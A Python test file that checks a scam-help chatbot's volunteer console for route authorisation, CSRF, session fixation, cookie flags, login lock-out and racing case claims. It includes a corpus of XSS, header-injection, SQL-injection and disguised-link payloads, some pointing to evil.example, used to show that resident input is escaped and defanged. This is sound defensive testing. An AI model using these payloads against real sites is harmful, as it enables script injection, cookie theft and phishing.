"""Console security against the real app, on SQLite and PostgreSQL: every console route
refuses anonymous requests and the wrong roles (found by walking the route table), CSRF,
session fixation, lock-out, an XSS corpus pasted by a resident, and two volunteers
claiming one case at the same moment."""

from __future__ import annotations

import asyncio
import re
import uuid
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, replace
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from markupsafe import escape
from sqlalchemy import func, select

from bot import texts
from bot.console import auth
from bot.console.access import CSRF_FIELD, CSRF_HEADER, UNSAFE_METHODS, Require
from bot.console.defang import defang
from bot.conversation.intake import clean_text
from bot.helpdesk.cases import consent_answer, erase_requested
from bot.helpdesk.desk import DeskError
from bot.models import AuditEntry, Case, ConsoleSession, Message, Volunteer, utcnow
from bot.tests.conftest import settings_for
from bot.tests.console_helpers import (
    HTML,
    PASSWORD,
    add_user,
    case_of,
    console_client,
    csrf_of,
    hand_off,
    login,
    page_csrf,
    say,
    start,
)
from bot.web import create_app
from common.masking import mask
from tools.rasa_processes import RasaServers

# The only console routes anyone may use without logging in.
PUBLIC = {("GET", "/console/login"), ("POST", "/console/login")}
PATH_PARAMETER = re.compile(r"\{(\w+)(?::[^}]*)?\}")
IBAN = "NL91ABNA0417164300"
_ERROR = re.compile(r'<p class="error" role="alert">(.*?)</p>', re.S)


# --- helpers ------------------------------------------------------------------------------
async def volunteer_named(app: FastAPI, username: str) -> Volunteer:
    async with app.state.gateway.sessions() as session:
        return (
            await session.execute(select(Volunteer).where(Volunteer.username == username))
        ).scalar_one()


async def bare_cases(app: FastAPI, count: int) -> list[int]:
    """Open cases without a conversation (as after the retention job): cheap to race on."""
    async with app.state.gateway.sessions() as session:
        made = [Case(channel="widget", scam_type="phishing") for _ in range(count)]
        session.add_all(made)
        await session.commit()
        return [case.id for case in made]


async def session_row(app: FastAPI, cookie: str | None) -> ConsoleSession | None:
    if not cookie:
        return None
    token_hash = auth.read_cookie(app.state.gateway.settings, cookie)
    if token_hash is None:
        return None
    async with app.state.gateway.sessions() as session:
        return await session.get(ConsoleSession, token_hash)


async def csrf_of_session(app: FastAPI, browser: httpx.AsyncClient) -> str:
    """The CSRF token of the browser's session (from the database: the campaign role
    has no page with a form yet)."""
    row = await session_row(app, browser.cookies.get(auth.SESSION_COOKIE))
    assert row is not None, "not logged in"
    return row.csrf_token


def plant(browser: httpx.AsyncClient, value: str) -> None:
    browser.cookies.set(auth.SESSION_COOKIE, value, domain="gateway.local", path="/console")


async def with_cookie(app: FastAPI, cookie: str, path: str = "/console") -> httpx.Response:
    """A request that carries only this session cookie (a stolen or replayed one)."""
    async with console_client(app) as other:
        return await other.get(path, headers={**HTML, "Cookie": f"{auth.SESSION_COOKIE}={cookie}"})


def refused_to_log_in(response: httpx.Response) -> bool:
    return response.status_code == 303 and response.headers["location"] == "/console/login"


def set_cookie_headers(response: httpx.Response, name: str) -> list[str]:
    return [h for h in response.headers.get_list("set-cookie") if h.startswith(f"{name}=")]


def error_of(html: str) -> str:
    match = _ERROR.search(html)
    assert match, "no error message on the page"
    return match.group(1).strip()


# --- the route table ----------------------------------------------------------------------
@dataclass(frozen=True)
class ConsoleRoute:
    path: str
    methods: tuple[str, ...]
    roles: frozenset[str]

    def url(self) -> str:
        return PATH_PARAMETER.sub("1", self.path)


def _route_table(app: FastAPI) -> list[Any]:
    """Every route the app serves. Since FastAPI 0.137 `include_router` leaves one lazy
    entry in `app.routes` instead of the routes; `iter_route_contexts` opens it."""
    try:
        from fastapi.routing import iter_route_contexts
    except ImportError:  # older FastAPI: app.routes is already flat
        return list(app.routes)
    return list(iter_route_contexts(app.routes))


def _requires(dependant: Any) -> Iterator[Require]:
    for sub in dependant.dependencies:
        if isinstance(sub.call, Require):
            yield sub.call
        yield from _requires(sub)


def console_routes(app: FastAPI) -> list[ConsoleRoute]:
    """Every console route but the log-in, with the roles its `Require` lets in; fails on
    a console route without one."""
    found = []
    for route in _route_table(app):
        path = getattr(route, "path", None) or ""
        if not (path == "/console" or path.startswith("/console/")):
            continue
        original = getattr(route, "original_route", route)
        assert isinstance(original, APIRoute), f"{path}: not an APIRoute, nothing guards it"
        methods = tuple(sorted(m for m in route.methods if (m, path) not in PUBLIC))
        if not methods:
            continue
        requires = list(_requires(route.dependant))
        assert requires, f"{'/'.join(methods)} {path} has no Require: anyone could use it"
        found.append(
            ConsoleRoute(path, methods, frozenset.intersection(*(r.roles for r in requires)))
        )
    return found


async def test_every_console_route_refuses_anonymous_and_wrong_roles(app: FastAPI) -> None:
    routes = console_routes(app)
    paths = {route.path for route in routes}
    # The walk must see the included router (a walk that finds nothing checks nothing).
    assert {"/console", "/console/cases/{case_id}/claim", "/console/logout"} <= paths
    assert {"/console/team", "/console/team/settings", "/console/audit"} <= paths
    for role in auth.ROLES:
        await add_user(app, f"walk-{role}", role)
    checks = 0
    async with AsyncExitStack() as stack:
        anonymous = await stack.enter_async_context(console_client(app))
        browsers: dict[str, tuple[httpx.AsyncClient, str]] = {}
        for role in auth.ROLES:
            browser = await stack.enter_async_context(console_client(app))
            assert (await login(browser, f"walk-{role}")).status_code == 303
            browsers[role] = (browser, await csrf_of_session(app, browser))
        for route in routes:
            url = route.url()
            for method in route.methods:
                where = f"{method} {route.path}"
                for accept in ("text/html,application/xhtml+xml", "application/json"):
                    response = await anonymous.request(method, url, headers={"Accept": accept})
                    assert response.status_code != 200, where
                    if method == "GET" and accept.startswith("text/html"):
                        assert refused_to_log_in(response), (where, response.status_code)
                    else:
                        assert response.status_code == 401, (where, accept, response.status_code)
                    checks += 1
                for role, (browser, csrf) in browsers.items():
                    if role in route.roles:
                        if method in UNSAFE_METHODS:  # let in, but not without the token
                            response = await browser.request(method, url, data={})
                            assert response.status_code == 400, (where, role)
                            checks += 1
                        continue
                    if method in UNSAFE_METHODS:
                        response = await browser.request(
                            method, url, data={CSRF_FIELD: csrf}, headers={CSRF_HEADER: csrf}
                        )
                    else:
                        response = await browser.request(method, url, headers=HTML)
                    assert response.status_code == 403, (where, role, response.status_code)
                    assert "niet voor jouw rol" in response.text
                    checks += 1
        # Still logged in: the refusals came from the role and CSRF checks.
        for role in ("volunteer", "coordinator"):
            assert (await browsers[role][0].get("/console", headers=HTML)).status_code == 200
    print(f"route checks: {checks} ({len(routes)} console routes)")
    assert checks >= len(routes)


# --- CSRF ---------------------------------------------------------------------------------
async def test_console_forms_refuse_missing_wrong_and_foreign_csrf_tokens(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    await add_user(app, "anna")
    await add_user(app, "bram")
    await add_user(app, "chris", "coordinator")
    cid = await start(client)
    await hand_off(client, cid)
    case = await case_of(app, cid)
    claim = f"/console/cases/{case.id}/claim"
    async with app.state.gateway.sessions() as session:
        retention_before = await app.state.gateway.config.retention_days(session)
        hours_before = (await app.state.gateway.config.opening_hours(session)).as_text()
    async with (
        console_client(app) as anna,
        console_client(app) as anna_elsewhere,
        console_client(app) as bram,
        console_client(app) as chris,
    ):
        for browser, name in ((anna, "anna"), (anna_elsewhere, "anna"), (bram, "bram")):
            await login(browser, name)
        await login(chris, "chris")
        mine = await page_csrf(anna)
        bad_forms = {
            "no token": {},
            "empty token": {CSRF_FIELD: ""},
            "wrong token": {CSRF_FIELD: "x" * len(mine)},
            "another volunteer's token": {CSRF_FIELD: await page_csrf(bram)},
            "own other session's token": {CSRF_FIELD: await page_csrf(anna_elsewhere)},
        }
        for label, form in bad_forms.items():
            refused = await anna.post(claim, data=form)
            assert refused.status_code == 400, label
            assert "verlopen" in refused.text
        wrong_header = await anna.post(claim, data={CSRF_FIELD: mine}, headers={CSRF_HEADER: "x"})
        assert wrong_header.status_code == 400  # a header, when sent, must be right too
        assert (await case_of(app, cid)).status == "open"

        coordinator = await page_csrf(chris, "/console/team")
        for label, form in bad_forms.items():
            settings = await chris.post(
                "/console/team/settings", data={**form, "hours": "za 10:00-11:00", "retention": "2"}
            )
            added = await chris.post(
                "/console/team/volunteers",
                data={**form, "username": "mallory", "role": "coordinator", "password": PASSWORD},
            )
            assert settings.status_code == added.status_code == 400, label
        # Log-out without the token does not log out.
        for form in ({}, {CSRF_FIELD: "x"}, {CSRF_FIELD: coordinator}):
            assert (await anna.post("/console/logout", data=form)).status_code == 400
        assert (await anna.get("/console", headers=HTML)).status_code == 200

        # Nothing changed...
        async with app.state.gateway.sessions() as session:
            assert await app.state.gateway.config.retention_days(session) == retention_before
            hours = await app.state.gateway.config.opening_hours(session)
            assert hours.as_text() == hours_before
            assert not await session.scalar(
                select(Volunteer.id).where(Volunteer.username == "mallory")
            )
            actions = set(
                (
                    await session.execute(
                        select(AuditEntry.action).where(AuditEntry.case_id.is_(None))
                    )
                ).scalars()
            )
            assert not actions & {"settings", "add_user:coordinator"}
        # ...and the right token works (it was the only difference).
        assert (await anna.post(claim, data={CSRF_FIELD: mine})).headers["location"] == (
            f"/console/cases/{case.id}"
        )
        assert (await case_of(app, cid)).status == "claimed"
        done = await chris.post(
            "/console/team/settings",
            data={CSRF_FIELD: coordinator, "hours": "za 10:00-11:00", "retention": "2"},
        )
        assert "ok=" in done.headers["location"]


async def test_the_log_in_form_needs_its_csrf_cookie_and_token(app: FastAPI) -> None:
    await add_user(app, "anna")
    credentials = {"username": "anna", "password": PASSWORD}
    async with console_client(app) as browser, console_client(app) as elsewhere:
        token = csrf_of((await browser.get("/console/login")).text)
        other_token = csrf_of((await elsewhere.get("/console/login")).text)
        attempts = {
            # A page that never loaded the form (no cookie), e.g. a cross-site post.
            "token without its cookie": (console_client(app), {CSRF_FIELD: token}),
            "cookie without a token": (None, {}),
            "wrong token": (None, {CSRF_FIELD: "x" * len(token)}),
            "another browser's token": (None, {CSRF_FIELD: other_token}),
        }
        for label, (fresh, form) in attempts.items():
            if fresh is None:
                # The refusal sends a new form token: the browser's cookie stays current.
                response = await browser.post("/console/login", data={**form, **credentials})
            else:
                async with fresh as stranger:
                    response = await stranger.post("/console/login", data={**form, **credentials})
            assert response.status_code == 400, label
            assert "verlopen" in error_of(response.text)
            assert not set_cookie_headers(response, auth.SESSION_COOKIE), label
        assert browser.cookies.get(auth.SESSION_COOKIE) is None
        assert (await login(browser, "anna")).status_code == 303


# --- session fixation ---------------------------------------------------------------------
async def test_planted_session_cookies_are_refused_and_replaced(app: FastAPI) -> None:
    await add_user(app, "anna")
    settings = app.state.gateway.settings
    other_key = replace(settings, session_secret="x" * 32)
    planted = {
        "garbage": "vast-gekozen-door-de-aanvaller",
        "signed with another key": auth._signer(other_key).dumps("attacker-token"),
        "signed, never issued": auth._signer(settings).dumps("attacker-token"),
    }
    for label, cookie in planted.items():
        assert refused_to_log_in(await with_cookie(app, cookie)), label
        async with console_client(app) as browser:
            plant(browser, cookie)
            assert (await login(browser, "anna")).status_code == 303
            issued = browser.cookies.get(auth.SESSION_COOKIE)
            assert issued and issued != cookie, label
            assert (await browser.get("/console", headers=HTML)).status_code == 200
        assert refused_to_log_in(await with_cookie(app, cookie)), label


async def test_logging_in_always_starts_a_new_session_and_ends_the_old_one(
    app: FastAPI,
) -> None:
    await add_user(app, "anna")
    await add_user(app, "mallory")
    async with console_client(app) as attacker, console_client(app) as victim:
        # The attacker's own valid session, planted in the victim's browser.
        await login(attacker, "mallory")
        mallory_cookie = attacker.cookies.get(auth.SESSION_COOKIE)
        assert mallory_cookie and await session_row(app, mallory_cookie) is not None
        plant(victim, mallory_cookie)
        assert "Mallory (" in (await victim.get("/console", headers=HTML)).text
        assert (await login(victim, "anna")).status_code == 303
        anna_cookie = victim.cookies.get(auth.SESSION_COOKIE)
        assert anna_cookie and anna_cookie != mallory_cookie
        # The planted session is gone; the attacker cannot ride along on Anna's log-in.
        assert await session_row(app, mallory_cookie) is None
        assert refused_to_log_in(await attacker.get("/console", headers=HTML))
        assert refused_to_log_in(await with_cookie(app, mallory_cookie))
        page = await with_cookie(app, anna_cookie)
        assert page.status_code == 200 and "Anna (" in page.text and "Mallory" not in page.text

        # Logging in again (same user) also replaces the cookie and ends the old session.
        assert (await login(victim, "anna")).status_code == 303
        again = victim.cookies.get(auth.SESSION_COOKIE)
        assert again and again != anna_cookie
        assert refused_to_log_in(await with_cookie(app, anna_cookie))

        # Log-out ends the session: the old cookie value is refused afterwards.
        csrf = await page_csrf(victim)
        out = await victim.post("/console/logout", data={CSRF_FIELD: csrf})
        assert refused_to_log_in(out)
        removal = set_cookie_headers(out, auth.SESSION_COOKIE)
        assert removal and ("max-age=0" in removal[0].lower() or "expires=" in removal[0].lower())
        assert await session_row(app, again) is None
        assert refused_to_log_in(await with_cookie(app, again))
        async with console_client(app) as replay:
            refused = await replay.post(
                "/console/cases/1/claim",
                data={CSRF_FIELD: csrf},
                headers={"Cookie": f"{auth.SESSION_COOKIE}={again}"},
            )
        assert refused.status_code == 401


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_console_cookies_are_http_only_and_same_site_strict(
    app: FastAPI, scheme: str
) -> None:
    await add_user(app, "anna")
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url=f"{scheme}://gateway") as browser:
        form = await browser.get("/console/login")
        logged_in = await login(browser, "anna")
    headers = set_cookie_headers(form, auth.LOGIN_CSRF_COOKIE) + set_cookie_headers(
        logged_in, auth.SESSION_COOKIE
    )
    assert len(headers) == 2
    for header in headers:
        attributes = {part.strip().split("=")[0].lower(): part for part in header.split(";")}
        assert "httponly" in attributes, header
        assert attributes.get("samesite", "").lower().endswith("strict"), header
        assert attributes.get("path", "").lower().endswith("/console"), header
        assert ("secure" in attributes) is (scheme == "https"), header


# --- lock-out -----------------------------------------------------------------------------
async def test_lock_out_after_five_wrong_passwords(app: FastAPI) -> None:
    await add_user(app, "anna")
    settings = app.state.gateway.settings
    assert settings.max_failed_logins == 5
    async with console_client(app) as browser:
        # Four wrong, then right: the count starts again.
        for _ in range(4):
            assert (await login(browser, "anna", "verkeerd-wachtwoord")).status_code == 401
        assert (await login(browser, "anna")).status_code == 303

    async with console_client(app) as browser:
        wrong = [await login(browser, "anna", f"verkeerd-{n}") for n in range(5)]
        assert {r.status_code for r in wrong} == {401}
        unknown = await login(browser, "niemand-bekend", PASSWORD)
        assert unknown.status_code == 401
        assert error_of(unknown.text) == error_of(wrong[0].text)  # no hint which one is wrong
        assert "gebruikersnaam of wachtwoord klopt niet" in error_of(unknown.text)

        # After five wrong passwords in a row even the right one is refused.
        locked = await login(browser, "anna")
        assert locked.status_code == 429
        message = error_of(locked.text)
        assert "Te vaak een verkeerd wachtwoord" in message and "15 minuten" in message
        assert not set_cookie_headers(locked, auth.SESSION_COOKIE)

        # A name without an account locks the same way: no way to test which names exist.
        ghost = f"niemand-{uuid.uuid4().hex[:8]}"
        tries = [await login(browser, ghost, f"gok-{n}") for n in range(6)]
        assert [r.status_code for r in tries] == [401] * 5 + [429]
        assert error_of(tries[-1].text) == message
        assert browser.cookies.get(auth.SESSION_COOKIE) is None
        assert (await login(browser, "anna", "nog-een-poging")).status_code == 429

        # Until the lock ends.
        async with app.state.gateway.sessions() as session:
            anna = (
                await session.execute(select(Volunteer).where(Volunteer.username == "anna"))
            ).scalar_one()
            assert anna.locked_until is not None
            anna.locked_until = utcnow() - timedelta(seconds=1)
            await session.commit()
        assert (await login(browser, "anna")).status_code == 303
        assert (await browser.get("/console", headers=HTML)).status_code == 200


# --- XSS corpus -----------------------------------------------------------------------------
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">klik hier</a>',
    "javascript:alert(document.cookie)",
    '<iframe src="https://evil.example/"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:expression(alert(1))}</style>",
    '<img src="x" style="x:expr/**/ession(alert(1))">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;svg&#x3E;",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "</textarea></div></li></ol><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "{{7*7}} ${7*7} <%= 7*7 %> {% for x in range(3) %}x{% endfor %}",
    "[klik hier](javascript:alert(1)) en [bank](https://ing-verify.example.com/login)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><input name=password><button>Inloggen</button></form>',
    "<a href=//evil.example/x>zonder schema</a> en //evil.example/y",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E en \\u003cscript\\u003e",
    "Uw pakket ligt klaar: https://ing-verify.example.com/login?x=1&y=<b>2</b>",
    "Ga naar hxxps://ing-verify[.]example[.]com of hxxp://postnl-track.example.org/t?id=5",
    "HTTPS://WWW.ING-VERIFY.EXAMPLE.COM/LOGIN en http://192.168.10.20:8080/admin",
    "Zie https://ing．verify．com/login en https://ïng.nl/inloggen",
    "Bijlage factuur\u202efdp.exe van http://evil.example/f",
    "https://in\u200bg-ver\u200bify.exa\u200bmple.com/lo\u200bgin en ing.n\u200bl",
    "Regel 1\r\nSet-Cookie: scamhelp_console=evil\r\n\r\n<script>alert(1)</script>",
    "nul\x00<script>alert(1)</script>",
    "vbscript:msgbox(1) en mailto:oplichter@evil.example",
    "'; DROP TABLE cases; --",
    f"Maak over naar {IBAN} of NL91 ABNA 0417 1643 00 aub",
    "Bel me op 06-12345678, +31 6 12345678 of 020-7654321",
    "Mail naar jan.jansen@example.nl of <jan@evil.example>",
    "<img src=x onerror=alert(1)>" * 130,
    "A" * 3900 + " https://evil.example/lang",
]
# In a list view: what a resident sent, and what the volunteer sees of it.
MASKED = {
    IBAN: "NL91 **** 00",
    "NL91 ABNA 0417 1643 00": "NL91 **** 00",
    "06-12345678": "06** *** *78",
    "+31 6 12345678": "+31** *** *78",
    "020-7654321": "02** *** *21",
    "jan.jansen@example.nl": "j***@example[.]nl",
}
OWN_SCRIPT = '<script src="/assets/console/console.js" defer></script>'
FORBIDDEN_TAGS = frozenset(
    "iframe frame frameset img svg math object embed applet style base audio video source".split()
)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str, where: str) -> None:
    """Nothing a resident wrote became markup, a script or a link."""
    lower = html.lower()
    assert lower.count("<script") == 1 and OWN_SCRIPT in html, where
    for raw in ("<iframe", "<img", "<svg", "<object", "<math", "<base", '<form action="http'):
        assert raw not in lower, (where, raw)
    for raw in ("javascript:", 'href="http', "href='http", "http://", "https://", "data:text"):
        assert raw not in lower, (where, raw)
    # An event handler inside a real tag (escaped text cannot hold a '<').
    assert not re.search(r"<[^>]*\bon[a-z]+\s*=", lower), where
    parser = _Tags()
    parser.feed(html)
    assert parser.tags, where
    for tag, attributes in parser.tags:
        assert tag not in FORBIDDEN_TAGS, (where, tag)
        if tag == "script":
            assert dict(attributes).get("src") == "/assets/console/console.js", where
        if tag == "link":
            assert dict(attributes).get("href") == "/assets/console/console.css", where
        if tag == "meta":
            assert "http-equiv" not in dict(attributes), where
        for name, value in attributes:
            value = (value or "").strip().lower()
            assert not name.startswith("on") and name not in ("style", "srcdoc"), (where, tag)
            if name in ("href", "src", "action", "formaction"):
                assert value.startswith(("/", "#")) and not value.startswith("//"), (where, value)
            assert "javascript:" not in value and "data:" not in value, (where, tag, name)


def assert_no_full_personal_numbers(html: str, where: str) -> None:
    for full in (IBAN, "NL91 ABNA 0417 1643 00", "12345678", "7654321", "jan.jansen@"):
        assert full not in html, (where, full)


def test_the_corpus_reaches_the_case() -> None:
    """None of it is taken for an erasure request or a consent answer, or refused."""
    assert len(HOSTILE) >= 25
    for text in HOSTILE:
        assert not erase_requested(text) and consent_answer(text) is None, text
        assert 0 < len(text) <= 4000, text[:40]


@pytest.fixture
async def roomy_app(database_url: str, rasa: RasaServers) -> AsyncIterator[FastAPI]:
    """The app with a rate limit that lets a resident paste the whole corpus in a minute."""
    settings = settings_for(database_url, rasa.rasa_url, rate_limit_per_minute=1000)
    application = create_app(settings)
    async with application.router.lifespan_context(application):
        yield application


async def test_an_xss_corpus_pasted_by_residents_stays_inert_in_the_console(
    roomy_app: FastAPI,
) -> None:
    app = roomy_app
    await add_user(app, "anna")
    async with console_client(app) as resident, console_client(app) as volunteer:
        await login(volunteer, "anna")
        # With consent: the whole conversation on the case page.
        shared = await start(resident)
        await hand_off(resident, shared, consent=True)
        # Without consent: each message in turn is the queue's preview.
        private = await start(resident)
        await hand_off(resident, private, consent=False)
        pages = 0
        for text in HOSTILE:
            await say(resident, shared, text=text)
            await say(resident, private, text=text)
            queue = await volunteer.get("/console/queue", headers=HTML)
            assert queue.status_code == 200
            where = f"queue after {text[:40]!r}"
            assert_inert(OWN_SCRIPT + queue.text, where)  # a fragment of the queue page
            assert_no_full_personal_numbers(queue.text, where)
            pages += 1
            preview = defang(mask(clean_text(text)))
            if len(preview) <= 140:  # not shortened: masked, defanged and escaped
                assert str(escape(preview)) in queue.text, where
            for sent, shown in MASKED.items():
                if sent in text:
                    assert shown in queue.text, (where, shown)
        shared_case = await case_of(app, shared)
        private_case = await case_of(app, private)

        queue_page = await volunteer.get("/console", headers=HTML)
        case_page = await volunteer.get(f"/console/cases/{shared_case.id}", headers=HTML)
        fragment = await volunteer.get(f"/console/cases/{shared_case.id}/messages", headers=HTML)
        private_page = await volunteer.get(f"/console/cases/{private_case.id}", headers=HTML)
        for name, response in (
            ("queue", queue_page),
            ("case page", case_page),
            ("messages", fragment),
            ("case page without consent", private_page),
        ):
            assert response.status_code == 200, name
            html = response.text
            if name == "messages":  # a fragment: the page around it has the script
                html = OWN_SCRIPT + html
            assert_inert(html, name)
            pages += 1
            csp = response.headers.get("content-security-policy", "")
            assert "script-src 'self'" in csp and "unsafe-inline" not in csp, name
            assert response.headers.get("x-content-type-options") == "nosniff"
        assert_no_full_personal_numbers(queue_page.text, "queue page")

        # Every input is on the case pages, escaped and defanged (so the checks above saw it).
        for text in HOSTILE:
            shown = str(escape(defang(clean_text(text))))
            assert shown in case_page.text and shown in fragment.text, text[:60]
            assert shown in private_page.text, text[:60]
        for defanged in (
            "hxxps://ing-verify[.]example[.]com/login?x=1",
            "hxxp://postnl-track[.]example[.]org/t?id=5",
            "HxxPS://WWW[.]ING-VERIFY[.]EXAMPLE[.]COM/LOGIN",
            "hxxp://192[.]168[.]10[.]20:8080/admin",
            "hxxps://ing[.]verify[.]com/login",
            "hxxps://ïng[.]nl/inloggen",
            "hxxps://ing-verify[.]example[.]com/login",
            "javascript[:]alert(1)",
            "jansen[at]example[.]nl",
            "{{7*7}}",
        ):
            assert defanged in case_page.text, defanged

        # Claimed: the live fragment stays inert too.
        csrf = await page_csrf(volunteer, f"/console/cases/{shared_case.id}")
        await volunteer.post(f"/console/cases/{shared_case.id}/claim", data={CSRF_FIELD: csrf})
        claimed = await volunteer.get(f"/console/cases/{shared_case.id}/messages", headers=HTML)
        assert_inert(OWN_SCRIPT + claimed.text, "messages after claiming")
        pages += 1

        async with console_client(app) as stranger:
            form = await stranger.get("/console/login")
        assert "script-src 'self'" in form.headers.get("content-security-policy", "")
    print(f"hostile inputs: {len(HOSTILE)} (pasted by 2 residents, {pages} console pages checked)")


# --- two volunteers, one case -----------------------------------------------------------------
async def test_two_volunteers_claiming_the_same_case_at_once_exactly_one_gets_it(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    await add_user(app, "anna")
    await add_user(app, "bram")
    cid = await start(client)
    await hand_off(client, cid)
    real = await case_of(app, cid)
    anna, bram = await volunteer_named(app, "anna"), await volunteer_named(app, "bram")
    desk = app.state.desk
    for round_, case_id in enumerate([real.id, *await bare_cases(app, 5)]):
        first, second = (anna, bram) if round_ % 2 == 0 else (bram, anna)
        results = await asyncio.gather(
            desk.claim(first, case_id), desk.claim(second, case_id), return_exceptions=True
        )
        refused = [r for r in results if isinstance(r, DeskError)]
        assert len(refused) == 1 and refused[0].status == 409, results
        assert sum(r is None for r in results) == 1, results
        winner = (first, second)[results.index(None)]
        async with app.state.gateway.sessions() as session:
            case = await session.get(Case, case_id)
            assert case is not None and case.status == "claimed"
            assert case.volunteer_id == winner.id
            claims = await session.scalar(
                select(func.count(AuditEntry.id)).where(
                    AuditEntry.case_id == case_id, AuditEntry.action == "claim"
                )
            )
            assert claims == 1
    async with app.state.gateway.sessions() as session:
        said = (
            await session.execute(select(Message.text).where(Message.conversation_id == cid))
        ).scalars()
        joined = {texts.VOLUNTEER_JOINED.format(name=name) for name in ("Anna", "Bram")}
        assert len([text for text in said if text in joined]) == 1  # told once


async def test_two_volunteers_claiming_over_http_at_once(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    await add_user(app, "anna")
    await add_user(app, "bram")
    cid = await start(client)
    await hand_off(client, cid)
    case_ids = [(await case_of(app, cid)).id, *await bare_cases(app, 2)]
    async with console_client(app) as anna, console_client(app) as bram:
        await login(anna, "anna")
        await login(bram, "bram")
        tokens = {anna: await page_csrf(anna), bram: await page_csrf(bram)}
        wins = {"anna": 0, "bram": 0}
        for case_id in case_ids:
            url = f"/console/cases/{case_id}/claim"
            responses = await asyncio.gather(
                anna.post(url, data={CSRF_FIELD: tokens[anna]}),
                bram.post(url, data={CSRF_FIELD: tokens[bram]}),
            )
            assert [r.status_code for r in responses] == [303, 303]
            places = [r.headers["location"] for r in responses]
            won = [p == f"/console/cases/{case_id}" for p in places]
            assert sorted(won) == [False, True], places
            lost = places[won.index(False)]
            assert lost.startswith(f"/console/cases/{case_id}?fout="), lost
            winner = ("anna", "bram")[won.index(True)]
            wins[winner] += 1
            async with app.state.gateway.sessions() as session:
                case = await session.get(Case, case_id)
                assert case is not None and case.status == "claimed"
                assert case.volunteer_id == (await volunteer_named(app, winner)).id
            # The winner holds it; the other cannot open it any more.
            holder, other = (anna, bram) if winner == "anna" else (bram, anna)
            assert (await holder.get(f"/console/cases/{case_id}", headers=HTML)).status_code == 200
            assert (await other.get(f"/console/cases/{case_id}", headers=HTML)).status_code == 404
        assert sum(wins.values()) == len(case_ids)
